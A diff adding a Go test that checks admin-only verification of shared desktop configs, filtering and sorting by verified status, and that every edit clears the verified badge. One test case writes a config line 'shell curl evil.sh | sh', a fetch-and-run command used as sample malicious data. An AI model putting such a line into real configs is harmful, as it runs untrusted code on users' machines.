@@ -0,0 +1,121 @@
+package hyprconfig
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestVerifyConfig(t *testing.T) {
+	forEachManager(t, func(t *testing.T, m ConfigManager) {
+		alice, admin := asUser("alice"), asUser("mod", "admin")
+		create := func(title string) *HyprConfig {
+			t.Helper()
+			cfg, err := m.CreateConfig(alice, &HyprConfig{
+				Title:    title,
+				Verified: true, // ignored, only admins verify configs
+				ProgramConfigs: []HyprProgramConfig{{
+					ID: "term", Title: "term", Program: "kitty",
+					FileContent: FileContent{Data: []byte("font_size " + title + "\n"), FileType: FileTypeConfig},
+				}},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			return cfg
+		}
+		plain, reviewed := create("10"), create("12")
+		if plain.Verified {
+			t.Error("config created as verified")
+		}
+
+		if err := m.VerifyConfig(alice, reviewed.ID); !errors.Is(err, ErrForbidden) {
+			t.Errorf("verify as owner: got %v, want ErrForbidden", err)
+		}
+		if err := m.VerifyConfig(admin, "missing"); !errors.Is(err, ErrNotFound) {
+			t.Errorf("verify missing config: got %v, want ErrNotFound", err)
+		}
+		if err := m.VerifyConfig(admin, reviewed.ID); err != nil {
+			t.Fatal(err)
+		}
+		got, err := m.GetConfig(alice, reviewed.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !got.Verified || got.VerifiedBy != "mod" || got.VerifiedAt == nil {
+			t.Errorf("after verifying: verified %v by %q at %v", got.Verified, got.VerifiedBy, got.VerifiedAt)
+		}
+
+		search := func(filters ConfigSearchFilters) string {
+			t.Helper()
+			page, err := m.ListConfigsWithFilters(alice, 1, 10, filters, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return strings.Join(configIDs(page.Items), ",")
+		}
+		verified, unverified := true, false
+		if got := search(ConfigSearchFilters{Verified: &verified}); got != reviewed.ID {
+			t.Errorf("verified=true matched %q, want %q", got, reviewed.ID)
+		}
+		if got := search(ConfigSearchFilters{Verified: &unverified}); got != plain.ID {
+			t.Errorf("verified=false matched %q, want %q", got, plain.ID)
+		}
+		// plain is liked, but verified configs come first
+		if err := m.FavoriteConfig(asUser("bob"), plain.ID); err != nil {
+			t.Fatal(err)
+		}
+		if got, want := search(ConfigSearchFilters{Sort: SearchSortVerified}), reviewed.ID+","+plain.ID; got != want {
+			t.Errorf("sort=verified: %q, want %q", got, want)
+		}
+
+		// Users can't verify their own config through an update, and every edit drops the badge
+		for _, tt := range []struct {
+			name string
+			edit func() error
+		}{
+			{"update", func() error {
+				return m.UpdateConfig(alice, reviewed.ID, map[string]any{"description": "tweaked", "verified": true}, UpdateOptions{})
+			}},
+			{"update program", func() error {
+				return m.UpdateProgramConfig(alice, reviewed.ID, "term", HyprProgramConfig{
+					Title: "term", Program: "kitty",
+					FileContent: FileContent{Data: []byte("font_size 13\nshell curl evil.sh | sh\n"), FileType: FileTypeConfig},
+				}, "")
+			}},
+			{"add program", func() error {
+				return m.AddProgramConfig(alice, reviewed.ID, HyprProgramConfig{ID: "bar", Title: "bar", Program: "waybar"}, nil, "")
+			}},
+			{"remove program", func() error {
+				return m.RemoveProgramConfig(alice, reviewed.ID, "bar", "")
+			}},
+		} {
+			if err := m.VerifyConfig(admin, reviewed.ID); err != nil {
+				t.Fatal(err)
+			}
+			if err := tt.edit(); err != nil {
+				t.Fatalf("%s: %v", tt.name, err)
+			}
+			got, err := m.GetConfig(alice, reviewed.ID)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got.Verified || got.VerifiedBy != "" || got.VerifiedAt != nil {
+				t.Errorf("%s kept the verified badge of %q", tt.name, got.VerifiedBy)
+			}
+		}
+
+		if err := m.VerifyConfig(admin, plain.ID); err != nil {
+			t.Fatal(err)
+		}
+		if err := m.UnverifyConfig(alice, plain.ID); !errors.Is(err, ErrForbidden) {
+			t.Errorf("unverify as owner: got %v, want ErrForbidden", err)
+		}
+		if err := m.UnverifyConfig(admin, plain.ID); err != nil {
+			t.Fatal(err)
+		}
+		if got, err := m.GetConfig(alice, plain.ID); err != nil || got.Verified {
+			t.Errorf("after unverifying: verified %v, %v", got.Verified, err)
+		}
+	})
+}